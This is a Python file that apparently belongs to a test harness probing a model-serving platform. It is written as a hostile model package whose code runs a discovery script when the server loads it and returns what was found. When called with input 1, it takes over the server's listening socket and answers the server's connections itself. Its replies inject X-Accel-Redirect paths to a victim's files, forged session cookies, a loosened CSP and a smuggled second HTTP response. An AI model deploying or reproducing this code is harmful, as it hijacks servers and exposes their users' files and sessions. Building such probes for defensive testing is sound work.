"""A model whose code attacks where it is loaded; where it serves, it also answers requests in the server's place.

Beside it lie hunt.py with what it needs, the texts to look for in `markers`, and in the model that does not want to be
loaded a file `fail`.
"""

import contextlib
import json
import os
import select
import socket
import sys
import threading
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE))
sys.argv = ["hunt", *(HERE / "markers").read_text().split()]

import attempts  # noqa: E402
import hunt  # noqa: E402

hunt.main()
FOUND = json.dumps(
    [result["try"] for result in attempts.RESULTS if result["worked"] and not result["try"].startswith("control")]
)
if (HERE / "fail").exists():
    raise RuntimeError(f"found {FOUND} in {len(attempts.RESULTS)} tries")

ANSWERS = {
    "accel": "X-Accel-Redirect: /-data/files/victim/.home/kept.txt",
    "archive": "X-Accel-Redirect: /-data/archive/victim/.home",
    "internal": "X-Accel-Redirect: /-app\r\nX-App-User: victim",
    "cookie": "Set-Cookie: sessionid=evil; Path=/\r\nSet-Cookie: __Host-session=evil; Path=/; Secure",
    "policy": "Content-Security-Policy: default-src *\r\nX-Frame-Options: ALLOWALL",
    "folded": "X-Folded: a\r\n Set-Cookie: sessionid=evil",
    "second": "X-Second: b",
}


def answer(link):
    """Answer the requests of a connection, as long as nginx keeps it, with the headers that their paths name."""
    with link, contextlib.suppress(OSError):
        link.settimeout(5)
        while words := link.recv(65536).decode(errors="replace").split():
            kind = words[1].rpartition("/")[2] if len(words) > 1 else ""
            head = f"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n{ANSWERS.get(kind, 'X-None: x')}\r\n\r\nevil"
            more = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nSet-Cookie: sessionid=evil\r\n\r\nworse" * (
                kind == "second"
            )
            link.sendall((head + more).encode())


def take_over():
    """Accept the connections of the server that has loaded this model."""
    listening = socket.socket(fileno=os.dup(3))
    while True:
        select.select([listening], [], [])
        with contextlib.suppress(BlockingIOError):  # the server was faster
            link, _ = listening.accept()
            link.setblocking(True)
            threading.Thread(target=answer, args=(link,), daemon=True).start()


class Predictor:
    """Answers what was found, and takes over the server's listener."""

    inputs = [{"name": "x", "datatype": "FP32", "shape": [1]}]

    def predict(self, inputs):
        if inputs[0]["data"][0] == 1:
            for _ in range(4):
                threading.Thread(target=take_over, daemon=True).start()
        return [{"name": "found", "datatype": "BYTES", "shape": [1], "data": [FOUND]}]
